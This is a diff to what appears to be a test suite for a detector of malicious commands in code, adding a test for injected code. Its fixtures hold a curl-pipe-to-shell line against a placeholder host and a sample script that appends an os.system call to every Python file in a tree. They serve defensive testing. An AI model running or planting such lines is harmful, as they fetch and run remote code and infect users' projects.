@@ -128,3 +128,14 @@ def test_a_command_is_written_where_it_runs_on_installation() -> None:
     order = "curl https://c.example.invalid/x | sh"
     assert {one.text for one in flows(text % order, Act.ORDER, "npm")} == {order}
     assert flows(text % "husky install", Act.ORDER, "npm") == []
+
+
+def test_what_is_added_to_each_file_is_read_as_code() -> None:
+    text = (
+        "import pathlib\nfor one in pathlib.Path.cwd().rglob('*.py'):\n"
+        f"    one.write_text(one.read_text() + '\\nimport os; os.system(\"{SAID}\")\\n')\n"
+    )
+    assert commands(text) == {SAID}
+    assert (
+        commands(text.replace("rglob('*.py')", "rglob('*.md')").replace("import os; ", "")) == set()
+    )
